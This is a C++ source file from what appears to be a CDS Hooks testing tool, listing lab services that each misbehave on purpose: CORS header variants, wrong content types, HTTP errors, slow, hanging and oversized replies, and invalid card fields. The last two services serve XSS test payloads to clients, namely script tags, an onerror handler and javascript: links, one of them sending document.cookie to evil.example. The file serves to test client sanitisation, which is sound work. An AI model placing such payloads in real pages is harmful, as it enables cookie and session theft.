// The misbehaviour lab's catalogue: every service does one thing wrong, the way developers meet it.
#include "fhir/operationoutcome.h"
#include "servers/demo/cards.h"
#include "servers/labapi.h"

#include <QJsonDocument>

using namespace Qt::StringLiterals;

namespace hb::servers {

namespace {

HttpResponse cards(const QJsonArray &list)
{
    return HttpResponse::json(200, QJsonObject {{u"cards"_s, list}});
}

QJsonObject labCard(const QString &summary)
{
    return demo::card(summary, u"info"_s, u"Hookbench misbehaviour lab"_s);
}

LabService cors(const QString &id, const QString &rows, const QString &what,
                CorsBehaviour behaviour)
{
    return LabService {u"cors-"_s + id,
                       u"CORS: "_s + what,
                       what + u" (docs/rules.md, CORS-M matrix row "_s + rows + u")."_s,
                       behaviour,
                       {},
                       0,
                       false};
}

LabService broken(const QString &id, const QString &title, const QString &description,
                  std::function<HttpResponse(const HttpRequest &)> respond)
{
    return LabService {id, title, description, {}, std::move(respond), 0, false};
}

HttpResponse withCard(const QJsonObject &card)
{
    return cards(QJsonArray {card});
}

const QByteArray &hugeBody()
{
    static const QByteArray body = [] {
        QJsonObject card = labCard(u"A card with a 12 MiB detail"_s);
        card.insert(u"detail"_s, QString(12 * 1024 * 1024, u'x'));
        return QJsonDocument(QJsonObject {{u"cards"_s, QJsonArray {card}}})
            .toJson(QJsonDocument::Compact);
    }();
    return body;
}

QList<LabService> corsServices()
{
    QList<LabService> out;
    CorsBehaviour b;
    out.append(cors(u"default"_s, u"1, 6"_s, u"Correct CORS, preflight 204"_s, b));
    b = {};
    b.preflightStatus = 200;
    out.append(cors(u"preflight-200"_s, u"2"_s, u"Preflight answered 200 instead of 204"_s, b));
    b = {};
    b.acao = "*";
    out.append(cors(u"acao-wildcard"_s, u"3"_s, u"Access-Control-Allow-Origin: *"_s, b));
    b = {};
    b.acao = "*";
    b.acac = "true";
    out.append(cors(u"acao-wildcard-credentials"_s, u"4, 5"_s,
                    u"ACAO * with Access-Control-Allow-Credentials: true"_s, b));
    b = {};
    b.acac = "True";
    out.append(cors(u"acac-capitalised"_s, u"7"_s, u"Access-Control-Allow-Credentials: True"_s, b));
    b = {};
    b.acac = "true";
    out.append(
        cors(u"credentials"_s, u"8"_s, u"Exact origin with ACAC true on both responses"_s, b));
    b = {};
    b.acao = "{origin}/";
    out.append(cors(u"acao-trailing-slash"_s, u"9"_s, u"ACAO with a trailing slash"_s, b));
    b = {};
    b.acao = "{other-scheme}";
    out.append(cors(u"acao-wrong-scheme"_s, u"10"_s, u"ACAO with the wrong scheme"_s, b));
    b = {};
    b.acao = "https://a.example, {origin}";
    out.append(cors(u"acao-comma-list"_s, u"11"_s, u"ACAO listing two origins with a comma"_s, b));
    b = {};
    b.acao = "https://a.example {origin}";
    out.append(cors(u"acao-space-list"_s, u"12"_s, u"ACAO listing two origins with a space"_s, b));
    b = {};
    b.duplicateAcao = true;
    out.append(
        cors(u"acao-duplicate"_s, u"13"_s, u"ACAO header line sent twice (app and proxy)"_s, b));
    b = {};
    b.acao = "null";
    out.append(cors(u"acao-null"_s, u"14"_s, u"Access-Control-Allow-Origin: null"_s, b));
    b = {};
    b.preflightStatus = 200;
    b.preflightCors = false;
    out.append(
        cors(u"preflight-no-cors"_s, u"15"_s, u"Preflight 200 without any CORS header"_s, b));
    b = {};
    b.preflightStatus = 404;
    b.preflightCors = false;
    out.append(
        cors(u"preflight-404"_s, u"16"_s, u"No OPTIONS route: 404 without CORS headers"_s, b));
    b = {};
    b.preflightStatus = 404;
    out.append(
        cors(u"preflight-404-with-cors"_s, u"17"_s, u"Preflight 404 with CORS headers"_s, b));
    b = {};
    b.preflightStatus = 401;
    out.append(
        cors(u"preflight-401"_s, u"18"_s, u"Auth middleware rejects OPTIONS: 401 with ACAO"_s, b));
    b = {};
    b.preflightStatus = 301;
    b.preflightLocation = "{self}/";
    out.append(
        cors(u"preflight-redirect"_s, u"19"_s, u"Preflight redirected (trailing slash, 301)"_s, b));
    b = {};
    b.acah = "*";
    out.append(cors(u"acah-wildcard"_s, u"20, 22"_s, u"Access-Control-Allow-Headers: *"_s, b));
    b = {};
    b.acah = "*, Authorization";
    out.append(cors(u"acah-wildcard-authorization"_s, u"21"_s, u"ACAH: *, Authorization"_s, b));
    b = {};
    b.acah = "Content-Type";
    out.append(cors(u"acah-content-type-only"_s, u"23"_s, u"ACAH lists Content-Type only"_s, b));
    b = {};
    b.acah = "Authorization";
    out.append(cors(u"acah-authorization-only"_s, u"24"_s, u"ACAH lists Authorization only"_s, b));
    b = {};
    b.acah.reset();
    out.append(cors(u"no-acah"_s, u"25"_s, u"No Access-Control-Allow-Headers"_s, b));
    b = {};
    b.acah = "AUTHORIZATION, CONTENT-TYPE";
    out.append(cors(u"acah-uppercase"_s, u"26"_s, u"ACAH in upper case"_s, b));
    b = {};
    b.acah = "authorization content-type";
    out.append(cors(u"acah-space-separated"_s, u"27"_s, u"ACAH separated by a space"_s, b));
    b = {};
    b.acam.reset();
    out.append(cors(u"no-acam"_s, u"28"_s, u"No Access-Control-Allow-Methods"_s, b));
    b = {};
    b.acam = "post";
    out.append(cors(u"acam-lowercase"_s, u"29"_s, u"ACAM: post (lower case)"_s, b));
    b = {};
    b.acam = "GET";
    out.append(cors(u"acam-get-only"_s, u"30"_s, u"ACAM: GET only"_s, b));
    b = {};
    b.acam = "put";
    out.append(
        cors(u"acam-put-lowercase"_s, u"31"_s, u"ACAM: put (lower case, matters for PUT)"_s, b));
    b = {};
    b.acam = "*";
    out.append(cors(u"acam-wildcard"_s, u"32"_s, u"ACAM: *"_s, b));
    b = {};
    b.actualAcao = false;
    out.append(cors(u"actual-no-acao"_s, u"33"_s, u"Preflight fine, actual 200 without ACAO"_s, b));
    b = {};
    b.actualAcao = false;
    b.actualStatus = 500;
    out.append(cors(u"actual-500-no-acao"_s, u"34"_s,
                    u"Actual 500 from an error handler without ACAO"_s, b));
    b = {};
    b.actualStatus = 500;
    out.append(cors(u"actual-500-with-acao"_s, u"35"_s, u"Actual 500 with ACAO"_s, b));
    b = {};
    b.actualStatus = 307;
    b.actualLocation = "{other}/cds-services/cors-default";
    out.append(cors(u"actual-redirect"_s, u"36"_s, u"Actual response 307 to another origin"_s, b));
    b = {};
    b.maxAge = "86400";
    out.append(cors(u"max-age"_s, u"37"_s, u"Access-Control-Max-Age: 86400"_s, b));
    return out;
}

} // namespace

QList<LabService> labServices()
{
    QList<LabService> out = corsServices();
    out.append(broken(u"not-json"_s, u"Not JSON"_s, u"Says application/json, sends plain text."_s,
                      [](const HttpRequest &) {
                          return HttpResponse::text(200, "OK, service is up", "application/json");
                      }));
    out.append(broken(u"html-error"_s, u"HTML error page"_s,
                      u"A reverse proxy's 502 HTML page instead of JSON."_s,
                      [](const HttpRequest &) {
                          return HttpResponse::text(
                              502,
                              "<!DOCTYPE html><html><head><title>502 Bad Gateway</title></head>"
                              "<body><h1>Bad Gateway</h1><p>The upstream server is not "
                              "responding.</p><hr><address>nginx</address></body></html>",
                              "text/html");
                      }));
    out.append(broken(u"http-500"_s, u"HTTP 500"_s, u"An unhandled exception: 500."_s,
                      [](const HttpRequest &) {
                          return HttpResponse::json(
                              500,
                              fhir::errorOutcome(u"exception"_s,
                                                 u"NullPointerException at CardEngine.java:42"_s));
                      }));
    out.append(broken(u"http-401"_s, u"HTTP 401"_s,
                      u"Rejects the client's JWT (the best practice: 401, no detail)."_s,
                      [](const HttpRequest &) {
                          HttpResponse r = HttpResponse::text(401, "");
                          r.addHeader("WWW-Authenticate", "Bearer");
                          return r;
                      }));
    out.append(broken(u"http-412"_s, u"HTTP 412"_s,
                      u"Says it could not get the FHIR data it needs (412 + OperationOutcome)."_s,
                      [](const HttpRequest &) {
                          return HttpResponse::json(
                              412,
                              fhir::errorOutcome(
                                  u"processing"_s,
                                  u"Missing prefetch key 'patient' and no fhirAuthorization"_s));
                      }));
    LabService slow = broken(u"slow"_s, u"Slow"_s,
                             u"Answers correctly after 3 seconds (target is about 500 ms)."_s, {});
    slow.delayMs = 3000;
    out.append(slow);
    LabService hanging
        = broken(u"hanging"_s, u"Hanging"_s, u"Accepts the request and never answers."_s, {});
    hanging.hang = true;
    out.append(hanging);
    out.append(broken(u"huge"_s, u"Huge response"_s, u"A valid response of about 12 MiB."_s,
                      [](const HttpRequest &) {
                          return HttpResponse::text(200, hugeBody(), "application/json");
                      }));
    out.append(broken(u"summary-too-long"_s, u"Summary too long"_s,
                      u"A card summary of 180 characters (V4)."_s, [](const HttpRequest &) {
                          QJsonObject c = labCard({});
                          c.insert(u"summary"_s,
                                   u"This summary keeps going "_s.repeated(8).left(180));
                          return withCard(c);
                      }));
    out.append(broken(u"bad-indicator"_s, u"Bad indicator"_s,
                      u"indicator 'hard-stop' (pre-1.0, invalid; V5)."_s, [](const HttpRequest &) {
                          QJsonObject c = labCard(u"Hard stop from an old service"_s);
                          c.insert(u"indicator"_s, u"hard-stop"_s);
                          return withCard(c);
                      }));
    out.append(broken(u"missing-source"_s, u"Missing source"_s, u"A card without source (V3)."_s,
                      [](const HttpRequest &) {
                          QJsonObject c = labCard(u"Where did this come from?"_s);
                          c.remove(u"source"_s);
                          return withCard(c);
                      }));
    out.append(broken(
        u"unknown-selection-behavior"_s, u"Unknown selectionBehavior"_s,
        u"selectionBehavior 'exactly-one': the client must treat the card as an error (C12)."_s,
        [](const HttpRequest &) {
            QJsonObject c = labCard(u"Pick exactly one"_s);
            c.insert(u"suggestions"_s,
                     QJsonArray {demo::suggestion(u"A"_s, {}), demo::suggestion(u"B"_s, {})});
            c.insert(u"selectionBehavior"_s, u"exactly-one"_s);
            return withCard(c);
        }));
    out.append(broken(u"empty-arrays"_s, u"Empty arrays"_s,
                      u"suggestions, links, overrideReasons as [] and extension {} (V2)."_s,
                      [](const HttpRequest &) {
                          QJsonObject c = labCard(u"Nothing inside"_s);
                          c.insert(u"suggestions"_s, QJsonArray {});
                          c.insert(u"selectionBehavior"_s, u"any"_s);
                          c.insert(u"links"_s, QJsonArray {});
                          c.insert(u"overrideReasons"_s, QJsonArray {});
                          c.insert(u"extension"_s, QJsonObject {});
                          return withCard(c);
                      }));
    out.append(
        broken(u"script-in-markdown"_s, u"Script in markdown"_s,
               u"detail carries <script>, an onerror handler and a javascript: link (V19, C15)."_s,
               [](const HttpRequest &) {
                   QJsonObject c = labCard(u"Hostile markdown"_s);
                   c.insert(u"detail"_s,
                            u"Read **this**.\n\n<script>alert('card script ran')</script>\n\n"
                            u"<img src=\"x\" onerror=\"alert('onerror ran')\">\n\n"
                            u"[Guideline](javascript:alert('link ran'))"_s);
                   return withCard(c);
               }));
    out.append(broken(
        u"javascript-link"_s, u"javascript: links"_s,
        u"A link and a source.url with the javascript: scheme (C17)."_s, [](const HttpRequest &) {
            QJsonObject c = labCard(u"Click me"_s);
            QJsonObject source = c.value(u"source"_s).toObject();
            source.insert(u"url"_s, u"javascript:alert(document.domain)"_s);
            c.insert(u"source"_s, source);
            c.insert(
                u"links"_s,
                QJsonArray {QJsonObject {
                    {u"label"_s, u"Open guideline"_s},
                    {u"url"_s, u"javascript:fetch('https://evil.example/?c='+document.cookie)"_s},
                    {u"type"_s, u"absolute"_s}}});
            return withCard(c);
        }));
    out.append(hostileLabServices());
    return out;
}

} // namespace hb::servers
